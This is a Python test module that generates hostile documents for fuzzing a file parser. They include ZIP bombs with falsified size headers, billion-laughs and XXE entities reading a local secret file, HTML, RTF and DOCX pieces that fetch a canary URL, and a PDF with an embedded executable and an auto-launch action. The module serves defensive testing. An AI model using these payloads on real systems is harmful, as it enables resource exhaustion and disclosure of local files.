"""The third hostile set: kinds the first two do not try (other encodings, lying archives, other
image formats, RTF, one element of a million attributes, fonts, annotations and xref tables by
the ten thousand), written with their expectations before jixiao ever read them.
`tests.hostile_corpus` writes them beside the others; their rows are in `tests/gold/hostile.json`.

The builders take the texts they embed (the small report, the canary URL, the secret file) as
arguments, so this module needs nothing from `tests.hostile_corpus`.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image

from tests.hostile_crafted import docx_with_part, one_page, pdf_objects, stream, write_part, xlsx

_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (Budget performance 2023: 95.5 points) Tj ET"
_PAGES_ONE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(extra: str = "", resources: str = f"<< /Font << /F1 {_FONT} >> >>") -> bytes:
    return (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources {resources} "
        f"{extra} >>"
    ).encode()


# ---------------------------------------------------------------- text


def big5(text: str) -> bytes:
    """The text in traditional characters and Big5, as a Hong Kong or Taiwan mirror serves it."""
    import opencc

    return opencc.OpenCC("s2tw").convert(text).encode("big5")


def nul_padded(text: str) -> bytes:
    """UTF-8 lines padded with NUL bytes, as a fixed-width record export leaves them."""
    return b"".join(line.encode() + b"\0" * (1 + len(line) % 3) + b"\n" for line in text.splitlines())


def mixed_encoding(text: str) -> bytes:
    """The first half of the lines in UTF-8, the rest in GB18030: two pages pasted into one file."""
    lines = text.splitlines(keepends=True)
    half = len(lines) // 2
    return "".join(lines[:half]).encode() + "".join(lines[half:]).encode("gb18030")


def cr_only(text: str) -> bytes:
    """Classic Mac OS line endings: no LF anywhere."""
    return text.replace("\n", "\r").encode()


def one_chinese_line(megabytes: int = 5) -> bytes:
    """Megabytes of Chinese on one line, without a punctuation mark or a space."""
    phrase = "本项目资金使用规范绩效目标完成情况良好".encode()
    return phrase * (megabytes * (1 << 20) // len(phrase))


def write_sparse(path: Path, head: bytes, megabytes: int) -> None:
    """`head`, then holes up to `megabytes` MB: the size of a huge download, none of its disk."""
    with path.open("wb") as handle:
        handle.write(head)
        handle.truncate(megabytes << 20)


# ---------------------------------------------------------------- images


def webp() -> bytes:
    """A WebP picture (what a CDN serves for `.jpg` when the browser accepts it)."""
    buffer = io.BytesIO()
    Image.new("L", (64, 64), 255).save(buffer, "WEBP")
    return buffer.getvalue()


def progressive_jpeg_claiming(width: int = 12000, height: int = 12000) -> bytes:
    """A small progressive JPEG whose frame header (SOF2) claims `width` x `height`: under
    Pillow's refusal (2 x 89 Mpx) but a 144 Mpx decode, whose coefficients libjpeg keeps whole."""
    buffer = io.BytesIO()
    Image.new("L", (64, 64), 255).save(buffer, "JPEG", progressive=True)
    data = bytearray(buffer.getvalue())
    at = data.index(b"\xff\xc2")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# ---------------------------------------------------------------- DOCX


_ALT_CHUNK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"


def docx_alt_chunks(base: bytes, secret_file: str, canary_url: str) -> bytes:
    """Three altChunks (Word imports their HTML into the document when it opens it): a part of the
    package, an external URL and a local file."""
    source = zipfile.ZipFile(io.BytesIO(base))
    rels = source.read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        (
            f'<Relationship Id="rAlt1" Type="{_ALT_CHUNK}" Target="afchunk1.html"/>'
            f'<Relationship Id="rAlt2" Type="{_ALT_CHUNK}" Target="{canary_url}/alt.html" TargetMode="External"/>'
            f'<Relationship Id="rAlt3" Type="{_ALT_CHUNK}" Target="file://{secret_file}" TargetMode="External"/>'
            "</Relationships>"
        ).encode(),
    )
    chunks = b'<w:altChunk r:id="rAlt1"/><w:altChunk r:id="rAlt2"/><w:altChunk r:id="rAlt3"/>'
    document = source.read("word/document.xml").replace(b"</w:body>", chunks + b"</w:body>")
    types = source.read("[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>'
    )
    html = f'<html><body><p>导入的内容</p><img src="{canary_url}/alt.png"></body></html>'.encode()
    buffer = io.BytesIO()
    replaced = {
        "word/_rels/document.xml.rels": rels,
        "word/document.xml": document,
        "[Content_Types].xml": types,
    }
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            write_part(archive, info.filename, replaced.get(info.filename, source.read(info.filename)))
        write_part(archive, "word/afchunk1.html", html)
    return buffer.getvalue()


def docx_paragraphs(base: bytes, count: int = 100_000) -> bytes:
    """The document with `count` short paragraphs added after its own (6 MB of XML)."""
    xml = zipfile.ZipFile(io.BytesIO(base)).read("word/document.xml")
    paragraphs = b"".join(
        f"<w:p><w:r><w:t>{i}. 项目按计划实施，群众满意。</w:t></w:r></w:p>".encode() for i in range(count)
    )
    return docx_with_part(base, "word/document.xml", xml.replace(b"</w:body>", paragraphs + b"</w:body>"))


def zip_with_lying_sizes(base: bytes, name: str, unpacked_mb: int = 300, declared: int = 20_000) -> bytes:
    """The package `base` with its part `name` padded to `unpacked_mb` MB of spaces, while the
    archive's headers declare it `declared` bytes: a check of the declared sizes passes it."""
    source = zipfile.ZipFile(io.BytesIO(base))
    out = bytearray()
    central = bytearray()
    for info in source.infolist():
        body = source.read(info.filename)
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        crc = 0
        if info.filename == name:
            head, tail = body[: body.rindex(b"</")], body[body.rindex(b"</") :]
            block = b" " * (1 << 20)
            pieces = [head, *([block] * unpacked_mb), tail]
            packed = b"".join(packer.compress(piece) for piece in pieces) + packer.flush()
            for piece in pieces:
                crc = zlib.crc32(piece, crc)
            size = declared
        else:
            packed = packer.compress(body) + packer.flush()
            crc, size = zlib.crc32(body), len(body)
        filename = info.filename.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(packed), size)
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHHHII", len(filename), 0, 0, 0, 0, 0, len(out)) + filename
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(filename), 0) + filename + packed
    count = len(source.infolist())
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


# ---------------------------------------------------------------- spreadsheets


def _column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def xlsx_full_row(columns: int = 16384) -> bytes:
    """A title, and one row with a number in every one of the sheet's 16384 columns."""
    title = '<row r="1"><c r="A1" t="inlineStr"><is><t>项目支出绩效自评表</t></is></c></row>'
    cells = "".join(f'<c r="{_column(c)}2"><v>{c % 100}</v></c>' for c in range(columns))
    return xlsx((title + f'<row r="2">{cells}</row>').encode())


def _xls(cells: dict[tuple[int, int], object]) -> bytes:
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Sheet1")
    for (row, col), value in cells.items():
        sheet.write(row, col, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xls_corner_cells() -> bytes:
    """A1 and IV65536, the last cell of an Excel 97 sheet: the used range is 16.7 million cells."""
    return _xls({(0, 0): "项目支出绩效自评表", (65535, 255): 1})


def xls_huge_sst_count() -> bytes:
    """Three strings, in a shared-string table (SST) whose header claims 2^31 - 1 of them."""
    data = bytearray(_xls({(0, 0): "项目支出绩效自评表", (1, 0): "预算", (2, 0): "执行率"}))
    # the record: type 0x00FC, its length, then the total and the unique count (3 and 3)
    at = re.search(rb"\xfc\x00..(?=\x03\x00\x00\x00\x03\x00\x00\x00)", bytes(data), re.S)
    assert at is not None, "no SST record"
    data[at.end() : at.end() + 8] = struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF)
    return bytes(data)


# ---------------------------------------------------------------- RTF and HTML


def rtf(text: str, canary_url: str) -> bytes:
    """The report as RTF (what many sites serve under .doc), with a picture field linking a URL."""
    escaped = "".join(
        ch if ord(ch) < 128 else f"\\u{ord(ch) - (65536 if ord(ch) > 32767 else 0)}?" for ch in text
    )
    paragraphs = "".join(f"{line}\\par\n" for line in escaped.splitlines())
    picture = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{canary_url}/rtf.png" \\\\d}}{{\\fldrslt }}}}'
    return f"{{\\rtf1\\ansi\\ansicpg936\\deff0{{\\fonttbl{{\\f0 SimSun;}}}}\n{paragraphs}{picture}\\par\n}}".encode()


def _html_paragraphs(text: str) -> str:
    return "".join(f"<p>{line}</p>" for line in text.splitlines() if line)


def html_redirects(text: str, secret_file: str, canary_url: str) -> bytes:
    """A refresh to another page, a <base> re-rooting every link, prefetch hints, SVG images and a
    CSS import: a browser would load all of them."""
    head = (
        f'<meta http-equiv="refresh" content="0; url={canary_url}/refresh"><base href="{canary_url}/">'
        f'<link rel="prefetch" href="{canary_url}/prefetch"><link rel="dns-prefetch" href="{canary_url}">'
        f"<style>@import url({canary_url}/a.css);</style>"
    )
    body = (
        f'<svg><image href="{canary_url}/svg.png"/><use href="file://{secret_file}#x"/></svg>'
        f'<img srcset="{canary_url}/1x.png 1x, relative.png 2x"><video poster="{canary_url}/poster.png"></video>'
        f'<div style="background:url({canary_url}/bg.png)"></div>' + _html_paragraphs(text)
    )
    return f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>报告</title>{head}</head><body>{body}</body></html>'.encode()


def xhtml_entities(text: str, secret_file: str, canary_url: str) -> bytes:
    """XHTML whose DOCTYPE declares billion-laughs entities, a local file and a URL, all used."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    doctype = (
        f'<!DOCTYPE html [{entities}<!ENTITY secret SYSTEM "file://{secret_file}">'
        f'<!ENTITY remote SYSTEM "{canary_url}/xhtml">]>'
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + doctype
        + '\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>报告</title></head><body>'
        + "<p>&secret;&remote;&lol9;</p>"
        + _html_paragraphs(text)
        + "</body></html>"
    ).encode()


def html_many_attributes(text: str, count: int = 1_000_000) -> bytes:
    """One <div> with a million attributes (11 MB), and the report."""
    attributes = "".join(f' a{i}="1"' for i in range(count))
    return f"<html><body><div{attributes}>属性</div>{_html_paragraphs(text)}</body></html>".encode()


def html_data_uri(text: str, megabytes: int = 12) -> bytes:
    """The report with a pasted screenshot inlined as a 12 MB data: URI (one attribute value)."""
    picture = "A" * (megabytes << 20)
    return f'<html><body>{_html_paragraphs(text)}<img src="data:image/png;base64,{picture}"></body></html>'.encode()


# ---------------------------------------------------------------- PDF


def pdf_many_fonts(count: int = 10_000) -> bytes:
    """One page whose resources hold 10 000 fonts, each showing one character of the text."""
    fonts = " ".join(f"/F{i} {_FONT}" for i in range(count))
    letters = "Budget performance 2023 self evaluation "
    content = b"".join(
        f"BT /F{i} 9 Tf {30 + (i % 100) * 5.3:.1f} {800 - (i // 100) * 7.5:.1f} Td ({letters[i % len(letters)]}) Tj ET\n".encode()
        for i in range(count)
    )
    return one_page(_PAGES_ONE, _page(resources=f"<< /Font << {fonts} >> >>"), content)


def pdf_embedded_file_and_xfa(secret_file: str, canary_url: str) -> bytes:
    """A page of text, an embedded executable, and an XFA form whose template loads a URL and a file."""
    xdp = (
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="x">'
        f'<event activity="initialize"><submit target="{canary_url}/xfa"/></event></field></subform>'
        f'</template><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret_file}"/>'
        "</xdp:xdp>"
    ).encode()
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R /NeedsRendering true >> "
        b"/Names << /EmbeddedFiles << /Names [(setup.exe) << /Type /Filespec /F (setup.exe) "
        b"/EF << /F 6 0 R >> >>] >> >> /OpenAction << /S /Launch /F (setup.exe) >> >>"
    )
    executable = b"MZ\x90\x00" + bytes((i * 31 + 7) % 256 for i in range(2048))
    return pdf_objects(
        [catalog, _PAGES_ONE, _page(), stream(_TEXT), stream(xdp), stream(executable, "/Type /EmbeddedFile")]
    )


def pdf_deep_page_tree(levels: int = 1000) -> bytes:
    """One page under 1000 levels of /Pages nodes (a recursive page-tree walk's stack)."""
    # objects: 1 catalog, 2 the root node, 3 the page, 4 its content, 5.. the inner nodes
    inner = list(range(5, 5 + levels - 1))
    chain = [2, *inner]
    nodes = {
        number: f"<< /Type /Pages {'' if number == 2 else f'/Parent {parent} 0 R '}/Kids [{child} 0 R] /Count 1 >>".encode()
        for parent, number, child in zip([0, *chain], chain, [*chain[1:], 3], strict=False)
    }
    page = f"<< /Type /Page /Parent {chain[-1]} 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 {_FONT} >> >> >>".encode()
    return pdf_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", nodes[2], page, stream(_TEXT), *(nodes[n] for n in inner)]
    )


def pdf_type3_text() -> bytes:
    """Text set in a Type3 font whose glyphs are drawn boxes with made-up names and no ToUnicode:
    the characters are there, what they read as is not."""
    procs = "/g1 6 0 R /g2 7 0 R"
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
        f"/CharProcs << {procs} >> /Encoding << /Type /Encoding /Differences [65 /g1 /g2] >> "
        "/FirstChar 65 /LastChar 66 /Widths [600 600] >>"
    )
    content = b"BT /T3 12 Tf 72 700 Td (ABABBABA ABBA BAAB) Tj 0 -20 Td (BBAA ABAB ABBA) Tj ET"
    return pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES_ONE,
            _page(resources="<< /Font << /T3 5 0 R >> >>"),
            stream(content),
            font.encode(),
            stream(b"600 0 0 0 500 700 d1 50 0 450 700 re f"),
            stream(b"600 0 0 0 500 700 d1 50 0 450 300 re f 50 400 450 300 re f"),
        ]
    )


def pdf_many_annotations(count: int = 100_000) -> bytes:
    """A page of text with 100 000 note annotations (7 MB of them)."""
    annots = " ".join(
        f"<< /Type /Annot /Subtype /Text /Rect [{i % 500} {i % 800} {i % 500 + 10} {i % 800 + 10}] /Contents (n{i}) >>"
        for i in range(count)
    )
    return one_page(_PAGES_ONE, _page(f"/Annots [{annots}]"))


def pdf_million_xref_entries(entries: int = 1_000_000) -> bytes:
    """A one-page PDF whose xref table has a million rows, all but four free (20 MB)."""
    data = one_page(_PAGES_ONE, _page())
    head, _, tail = data.partition(b"xref\n")
    rows = tail.split(b"\n")
    objects = int(rows[0].split()[1])  # "0 N", then N rows: the free head and the objects
    used = b"\n".join(rows[1 : 1 + objects]) + b"\n"
    free = b"0000000000 65535 f \n" * (entries - objects)
    table = b"0 %d\n" % entries + used + free
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (entries, len(head))
    return head + b"xref\n" + table + trailer
